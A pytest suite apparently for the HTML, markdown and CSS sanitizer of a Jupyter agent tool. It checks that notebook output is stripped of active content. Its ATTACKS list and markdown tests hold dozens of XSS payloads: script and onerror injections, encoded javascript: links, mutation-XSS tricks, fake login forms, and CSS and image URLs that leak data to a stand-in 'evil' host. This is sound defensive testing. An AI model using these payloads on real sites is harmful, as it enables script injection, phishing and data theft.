"""Markup of a child shows what it should and can do nothing else, in whatever shape it comes."""

from __future__ import annotations

import html.parser
import random
import re

import anndata
import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ovagent_jupyter.execution import markup
from ovagent_jupyter.execution.markup import MOST_TAGS, clean_html, clean_markdown, disarm_math
from ovagent_jupyter.execution.styles import declarations, rules

SAFE_URL = re.compile(r"https?://|mailto:|#ov[0-9a-f]{12}-|data:image/(png|jpeg|gif);base64,")
SAFE_FUNCTIONS = {"rgb", "rgba", "hsl", "hsla", "linear-gradient", "nth-child"}


class Inspector(html.parser.HTMLParser):
    """A second reader, which holds what comes out against the rules."""

    def __init__(self) -> None:
        super().__init__()
        self.text = ""
        self.tags: list[str] = []
        self._in_style = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in markup.TAGS | {"style"}, tag
        self.tags.append(tag)
        self._in_style = tag == "style"
        for name, value in attrs:
            assert name in {"rel", "target"} or any(
                name in markup.ATTRIBUTES.get(key, ()) for key in ("*", tag)
            ), (tag, name)
            if name in ("href", "src"):
                assert value is not None
                assert SAFE_URL.match(value)
                assert name == "href" or value.startswith("data:image/")
            if name == "class":
                assert all(word.startswith("out") or word == "dataframe" for word in value.split())  # type: ignore[union-attr]
            if name == "style":
                self._style(value or "")

    def handle_data(self, data: str) -> None:
        if self._in_style:
            self._style(data)
            assert all(line.startswith("#ov") for line in data.splitlines())
            self._in_style = False
        else:
            self.text += data

    def _style(self, css: str) -> None:
        assert not re.search(r"[@\\<]|url|expression|position|z-index|transform|float", css)
        assert set(re.findall(r"([\w-]+)\(", css)) <= SAFE_FUNCTIONS


def inspected(source: str) -> Inspector:
    clean = clean_html(source)
    assert clean is not None
    inspector = Inspector()
    inspector.feed(clean)
    inspector.close()
    return inspector


ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil/?leak=1'>",
    "<img srcset='https://evil/x 1x' src=data:image/svg+xml;base64,AAAA>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror=x&gt;'>",
    "<iframe src='https://evil' srcdoc='<script>x</script>'></iframe>",
    "<form action=//evil><input name=password><button>Sign in</button></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java&#115;cript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='/api/shutdown'>x</a><a href='//evil'>y</a><a href='files/evil.html'>z</a>",
    "<base href=//evil><link rel=stylesheet href=//evil>",
    "<meta http-equiv=refresh content='0;//evil'>",
    "<object data=//evil></object><embed src=//evil><applet code=x>",
    "<video src=//evil poster=//evil></video><audio src=//evil></audio>",
    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">cover</div>",
    "<div style=\"background:url(//evil)\">x</div>",
    "<div style=\"background:u\\72l(//evil)\">x</div>",
    "<div style='background:image-set(\"//evil\" 1x)'>x</div>",
    "<div style=\"margin-top:-500px;color:red\">over another cell</div>",
    "<div style='color:red;}</style><script>x</script>'>x</div>",
    "<style>body{display:none} * {color:red} @import '//evil'; p{background:url(//evil)}</style>x",
    "<style>p{color:red}</style><style>a~b,a+b,:has(x),[href^=x]{color:red}</style><p>x</p>",
    "<style></style><script>alert(1)</script></style>",
    "<style><!--</style><img src=x onerror=alert(1)>-->",
    "<div class='jp-Dialog lm-Menu' id='main'>fake dialog</div>",
    "<details open ontoggle=alert(1)>x</details>",
    "<b title='\x1b]'>\x07' onmouseover=alert(1) x='",
    "<p title=\"</p><img src=x onerror=alert(1)>\">",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<template><script>x</script></template><select><option><script>x</script></select>",
    "<!--><script>alert(1)</script>--><!--x--!><img src=x onerror=alert(1)>",
    "<![CDATA[<script>x</script>]]><?php x ?><!DOCTYPE html>",
    "<<script>alert(1)</script>",
    "<img/src/onerror=alert(1)><img\x0conerror=alert(1)>",
    "<a href=\"https://x.y\" onclick=\"alert(1)\">x</a>",
    "<table background=//evil><td background=//evil>x</table>",
    "<font color='\"><script>x'>x</font><img src='data:image/png;base64,\"onerror=x'>",
    "\ud800<b>x</b>",
    "<xmp><script>x</script></xmp><plaintext><script>",
]  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
def test_attacks_come_out_dead(attack: str) -> None:
    for source in (
        attack,
        attack * 3,
        f"<table><tr><td>{attack}</td></tr></table>",
        f"<b>{attack}",
    ):
        inspected(source)


PIECES = [*ATTACKS, "<table>", "</table>", "<tr>", "<td>", "<b>", "</b>", "<p>", "</p>", "<style>",
          "</style>", "'", '"', ">", "<", "<!--", "-->", "x", " ", "<a href=", "style='", "&lt;",
          "<li>", "<div>", "</div>", "\x00", "`", "="]  # fmt: skip


@settings(max_examples=500, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=30).map("".join))
def test_mixtures_of_attacks_come_out_dead(source: str) -> None:
    clean = clean_html(source)
    assert clean is not None
    inspected(source)
    again = clean_html(clean)
    assert again is not None


def test_no_nesting_makes_much_of_little() -> None:
    """A conforming parser made 660 MB of 140 kB of badly nested tags."""
    chance = random.Random(1)
    tags = sorted(markup.TAGS)
    worst = 0.0
    for _ in range(2000):
        pool = chance.sample(tags, chance.randint(1, 6))
        parts = [
            chance.choice(
                [f"<{chance.choice(pool)} title={'t' * 30}{n}>", f"</{chance.choice(pool)}>"]
            )
            for n in range(chance.randint(2, 60))
        ]
        source = "".join(parts) * chance.choice([1, 20])
        worst = max(worst, len(clean_html(source) or "") / len(source))
    assert worst < 4


def test_too_many_tags_are_too_many() -> None:
    assert clean_html("<b>" * (MOST_TAGS + 1)) is None
    deep = clean_html("<div>" * 10_000 + "x")
    assert deep is not None
    assert deep.count("<div>") <= markup.DEEPEST


def test_tables_of_pandas_stay_as_they_are() -> None:
    frame = pd.DataFrame({"a": [1, 2], "b": ["<x>", "y & z"]}, index=["i", "j"])
    seen = inspected(frame.to_html())
    assert seen.tags.count("td") == 4
    assert seen.tags.count("th") == 5
    assert "<x>" in seen.text
    assert "y & z" in seen.text
    assert "<x>" in inspected(frame._repr_html_()).text  # type: ignore[operator]


def test_colours_of_a_styled_table_stay() -> None:
    frame = pd.DataFrame(np.arange(6).reshape(2, 3), columns=list("abc"))
    source = frame.style.background_gradient().bar(subset=["a"]).set_caption("c").to_html()
    clean = clean_html(source) or ""
    inspected(source)
    cell = re.search(r'id="(ov\w+-T_\w+_row1_col1)"', clean)
    assert cell is not None
    assert re.search(rf"#{cell[1]}[^{{]*{{[^}}]*background-color:#023858", clean)
    assert "linear-gradient" in clean


def test_an_anndata_keeps_its_words() -> None:
    adata = anndata.AnnData(np.eye(3), pd.DataFrame({"leiden": list("abc")}, index=list("xyz")))
    represent = getattr(adata, "_repr_html_", None)
    source = (represent and represent()) or f"<pre>{adata!r}</pre>"
    assert "leiden" in inspected(source).text


def test_an_image_that_is_not_shown_is_named() -> None:
    assert clean_html("<img src=//evil alt='a plot'>") == "[image: a plot]"
    kept = clean_html("<img alt=x width=5 src='data:image/png;base64,AAAA'>") or ""
    assert 'src="data:image/png;base64,AAAA"' in kept


def test_links_leave_the_page_alone() -> None:
    link = clean_html("<a href='https://x.y/?a=1&amp;b=2'>x</a>") or ""
    assert 'href="https://x.y/?a=1&amp;b=2"' in link
    assert 'rel="noopener noreferrer"' in link
    assert 'target="_blank"' in link


def test_markdown_is_rendered_without_what_is_active() -> None:
    source = (
        "# Title\n\n![x](https://evil/?leak) <img src=x onerror=alert(1)> [a](javascript:alert(1))"
        " [b](java&#115;cript:x) [c](https://x.y) **bold** `<b>`\n\n[r]: javascript:x\n\n[r] ![r]\n"
        "\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```mermaid\nx\n```\n"
        "\n$a_1 * b_1 * c$ $\\href{x}{y}$\n"
    )
    clean = clean_markdown(source) or ""
    inspector = Inspector()
    inspector.feed(clean)
    assert {"h1", "strong", "table", "td", "code", "a"} <= set(inspector.tags)
    assert "img" not in inspector.tags
    assert "<img src=x onerror=alert(1)>" in inspector.text
    assert "$a_1 * b_1 * c$" in inspector.text
    assert "\\href" not in inspector.text
    assert clean_markdown("x" * 200_000) is None


@pytest.mark.parametrize(
    "unit", ["*", "[", "![", "`", "> ", "- ", "<a", "$", "|", "[a](", "\\", "**a _b "]
)
def test_markdown_that_takes_parsers_long(unit: str) -> None:
    clean = clean_markdown(unit * (20_000 // len(unit)))
    assert clean is not None
    inspected(clean)


def test_formulas_without_active_commands() -> None:
    assert disarm_math(r"\alpha \href{javascript:x}{y} \require{x}\hrefs \def\x{}") == (
        r"\alpha href{javascript:x}{y} require{x}\hrefs def\x{}"
    )


@pytest.mark.parametrize(
    ("style", "kept"),
    [
        ("color: red; background-color:#fff", "color:red;background-color:#fff"),
        ("width:10%; position:absolute; z-index:9", "width:10%"),
        ("background: linear-gradient(90deg, #d65f5f 50.0%, transparent 50.0%)",
         "background:linear-gradient(90deg, #d65f5f 50.0%, transparent 50.0%)"),
        ("background: url(x), red; color: var(--x); width: calc(1px)", ""),
        ("margin: -1px; margin-left:- 5px; text-indent:-.5em; padding:1px", "padding:1px"),
        ("color: r\\65 d; color: red /* ; } */; content: 'x'", "color:red"),
        ("font-family: 'A B', monospace; font-family: 'x", "font-family:'A B', monospace"),
    ],
)  # fmt: skip
def test_declarations(style: str, kept: str) -> None:
    assert declarations(style) == kept


def test_rules_are_meant_for_the_output_only() -> None:
    sheet = (
        "#a .b > td, p:hover {color:red} body, #a ~ p, p + p {color:red} html{color:red}"
        " p[href] {color:red} @media x {p {color:blue}} td:has(p) {color:red} > {color:red}"
    )
    assert rules(sheet, "ov1", {"td", "p"}) == (
        "#ov1 #ov1-a .out-b > td,#ov1 p:hover{color:red}\n#ov1 p{color:blue}"
    )
